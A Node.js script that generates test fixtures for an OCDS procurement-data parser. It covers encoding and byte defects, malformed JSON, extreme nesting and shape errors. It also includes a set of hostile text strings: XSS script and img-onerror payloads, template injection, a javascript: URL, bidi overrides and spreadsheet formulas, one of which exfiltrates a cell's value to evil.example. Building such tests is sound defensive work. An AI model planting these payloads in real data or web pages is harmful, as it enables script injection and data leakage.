// Writes the byte-level and shape cases of the hostile corpus into test/hostile/files/ (committed; run again after
// changing a case: `node test/hostile/make-files.mjs`). Every file is small, handwritten OCDS (fictional names) with
// one defect, so each case's expected outcome can be stated exactly in cases.ts.
import { mkdirSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

const DIR = fileURLToPath(new URL('./files/', import.meta.url));
mkdirSync(DIR, { recursive: true });

/** One complete 1.1 release: tender, award, contract and one payment, all in `currency`. */
function release(ocid, { supplier = 'Papelería Núñez S.A.', buyer = 'Secretaría de Finanzas', amount = 1000, currency = 'MXN', title = 'Compra de papel', description = 'Papel bond' } = {}) {
  return {
    ocid,
    id: `${ocid}-01`,
    date: '2024-03-01T00:00:00Z',
    tag: ['award', 'contract'],
    initiationType: 'tender',
    parties: [
      { id: 'B1', name: buyer, roles: ['buyer'] },
      { id: 'S1', name: supplier, roles: ['supplier'] },
    ],
    buyer: { id: 'B1', name: buyer },
    tender: { id: 'T1', title, description, status: 'complete', value: { amount: amount * 2, currency } },
    awards: [{ id: 'A1', title, status: 'active', date: '2024-03-01T00:00:00Z', value: { amount, currency }, suppliers: [{ id: 'S1', name: supplier }] }],
    contracts: [
      {
        id: 'C1',
        awardID: 'A1',
        title,
        status: 'active',
        dateSigned: '2024-03-04T00:00:00Z',
        period: { startDate: '2024-03-05', endDate: '2024-12-31' },
        value: { amount, currency },
        implementation: {
          transactions: [{ id: 'TX1', date: '2024-04-01T00:00:00Z', value: { amount: amount / 2, currency }, payer: { id: 'B1', name: buyer }, payee: { id: 'S1', name: supplier } }],
        },
      },
    ],
  };
}

function releasePackage(releases, extra = {}) {
  return { uri: 'https://example.org/ocds/package.json', version: '1.1', publishedDate: '2024-05-01T00:00:00Z', publisher: { name: 'Hostile corpus' }, ...extra, releases };
}

const utf8 = (text) => Buffer.from(text, 'utf8');
const json = (value) => JSON.stringify(value, null, 1);
const write = (name, bytes) => writeFileSync(DIR + name, typeof bytes === 'string' ? utf8(bytes) : bytes);

// Bytes
write('empty.json', Buffer.alloc(0));
write('bom.json', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(json(releasePackage([release('ocds-h-bom')])))]));
// NUL bytes between tokens and inside a name (as some database exports leave them).
write('nul-bytes.json', json(releasePackage([release('ocds-h-nul', { supplier: 'Papelería\u0000 Núñez' })])).replace('"releases":', '\u0000"releases":\u0000'));
const utf16Text = json(releasePackage([release('ocds-h-utf16', { supplier: 'Compañía Ñandú' })]));
write('utf-16le-bom.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(utf16Text, 'utf16le')]));
write('utf-16be.json', Buffer.from(utf16Text, 'utf16le').swap16());
// Windows-1252: the accents and the typographic quotes/dash are single bytes (0xF1, 0x93, 0x94, 0x96).
write('windows-1252.json', Buffer.from(
  json(releasePackage([release('ocds-h-1252', { supplier: 'Compañía Ñandú – “Los Álamos”' })])).replace(/[–“”]/g, (c) => ({ '–': '\x96', '“': '\x93', '”': '\x94' })[c]),
  'latin1',
));
// Valid UTF-8 except one stray 0xFF byte in a title.
write('invalid-utf-8.json', Buffer.from(json(releasePackage([release('ocds-h-badutf8', { title: 'Compra de papel XFF' })])).replace('XFF', '\xff'), 'latin1'));
write('trailing-commas.json', json(releasePackage([release('ocds-h-comma')])).replace(/\n(\s*)([\]}])/g, ',\n$1$2'));
write('concatenated.json', JSON.stringify(releasePackage([release('ocds-h-concat-1')])) + JSON.stringify(releasePackage([release('ocds-h-concat-2')])));
write('lines-one-bad.jsonl', [JSON.stringify(release('ocds-h-line-1')), '{"ocid": "ocds-h-line-bad", "id": oops}', JSON.stringify(release('ocds-h-line-3'))].join('\n') + '\n');
// 100,000 nested arrays inside one release, beside a normal release.
const deep = JSON.stringify(releasePackage([{ ...release('ocds-h-deep'), deep: '@DEEP@' }, release('ocds-h-shallow')]));
write('deep-nesting.json', deep.replace('"@DEEP@"', '['.repeat(100_000) + ']'.repeat(100_000)));
write('odd-numbers.json', json(releasePackage([release('ocds-h-numbers', { amount: 1000 })]))
  .replace('"amount": 2000', '"amount": 1e9999')
  .replace('"amount": 500', '"amount": -0')
  .replace('"id": "A1"', '"id": 123456789012345678901234567890'));
write('not-json.txt', 'Service temporarily unavailable. Please try again later.\n');

// Shapes
write('geojson.json', json({ type: 'FeatureCollection', features: [{ type: 'Feature', geometry: { type: 'Point', coordinates: [-99.13, 19.43] }, properties: { name: 'Zócalo' } }] }));
write('error-object.json', json({ error: 'Rate limit exceeded', status: 429 }));
write('releases-null.json', json({ ...releasePackage([]), releases: null }));
write('missing-fields.json', json(releasePackage([
  release('ocds-h-kept'),
  (({ ocid, ...rest }) => rest)(release('ocds-h-no-ocid')),
  (({ id, date, ...rest }) => rest)(release('ocds-h-no-id-date', { amount: 300 })),
])));
// The same release twice (an overlapping page) plus another release reusing its id under another ocid.
write('duplicate-releases.json', json(releasePackage([release('ocds-h-dup'), release('ocds-h-dup'), { ...release('ocds-h-dup-2'), id: 'ocds-h-dup-01' }])));
write('records-without-releases.json', json({ uri: 'https://example.org/r.json', version: '1.1', publishedDate: '2024-05-01T00:00:00Z', publisher: { name: 'Hostile corpus' }, records: [{ ocid: 'ocds-h-rec-empty' }, { ocid: 'ocds-h-rec-empty-list', releases: [] }] }));
write('linked-releases-only.json', json({
  uri: 'https://example.org/r.json', version: '1.1', publishedDate: '2024-05-01T00:00:00Z', publisher: { name: 'Hostile corpus' },
  records: [{ ocid: 'ocds-h-linked', releases: [{ url: 'https://example.org/releases/1.json#ocds-h-linked-01', date: '2024-03-01T00:00:00Z', tag: ['tender'] }] }],
}));
// An OCDS 1.0 release (inline organisations, transaction `amount`) beside a 1.1 release.
write('mixed-versions.json', json(releasePackage([
  {
    ocid: 'ocds-h-v10', id: 'ocds-h-v10-01', date: '2014-02-01T00:00:00Z', tag: ['contract'], initiationType: 'tender',
    buyer: { identifier: { scheme: 'XI-TEST', id: 'B10' }, name: 'Ministry of Tests' },
    awards: [{ id: 'A1', status: 'active', value: { amount: 700, currency: 'USD' }, suppliers: [{ identifier: { scheme: 'XI-TEST', id: 'S10' }, name: 'Old Supplier Ltd' }] }],
    contracts: [{ id: 'C1', awardID: 'A1', status: 'active', value: { amount: 700, currency: 'USD' }, implementation: { transactions: [{ id: 'T1', date: '2014-03-01T00:00:00Z', amount: { amount: 350, currency: 'USD' }, providerOrganization: { scheme: 'XI-TEST', id: 'B10' }, receiverOrganization: { scheme: 'XI-TEST', id: 'S10' } }] } }],
  },
  release('ocds-h-v11', { currency: 'USD', amount: 900 }),
])));
const odd = release('ocds-h-amounts', { currency: ' mxn ' });
odd.tender.value = { amount: '17452450.07', currency: 'MXN' };
odd.awards[0].value = { amount: { $numberLong: '1000' }, currency: 'MXN' };
odd.contracts[0].value = { amount: -500, currency: 'MXN' };
odd.contracts[0].implementation.transactions[0].value = { amount: null, currency: 'MXN' };
write('odd-amounts.json', json(releasePackage([odd])));
write('empty-releases-1200.json', JSON.stringify(releasePackage(Array.from({ length: 1200 }, () => ({})))));

// Text: markup, template syntax, script URLs, bidi overrides and a 10,000-character name, in every free-text field.
const HOSTILE_TEXT = {
  script: '<script>window.__ocdsHostile = "script"</script>Proveedor',
  img: '<img src=x onerror="window.__ocdsHostile=\'img\'">Constructora',
  template: '{{constructor.constructor("window.__ocdsHostile=1")()}} ${alert(1)}',
  url: 'javascript:window.__ocdsHostile=\'url\'',
  // An override and an isolate left open: unrepaired, they would reverse the rest of any sentence quoting the name.
  bidi: '\u202EAS serotsoP \u2067Ltd',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  plus: '+1+1 Servicios',
  minus: '-2+3 Servicios',
  at: '@SUM(1+1) Servicios',
  long: 'L'.repeat(10_000),
};
const hostile = Object.entries(HOSTILE_TEXT).map(([key, text], index) =>
  release(`ocds-h-text-${key}`, { supplier: text, buyer: index % 2 ? HOSTILE_TEXT.img : HOSTILE_TEXT.script, title: text, description: HOSTILE_TEXT.template, amount: 1000 + index }),
);
hostile[0].parties[1].contactPoint = { url: HOSTILE_TEXT.url, name: HOSTILE_TEXT.script };
write('hostile-text.json', json(releasePackage(hostile, { uri: HOSTILE_TEXT.url, license: HOSTILE_TEXT.url, publisher: { name: HOSTILE_TEXT.img, uri: HOSTILE_TEXT.url } })));
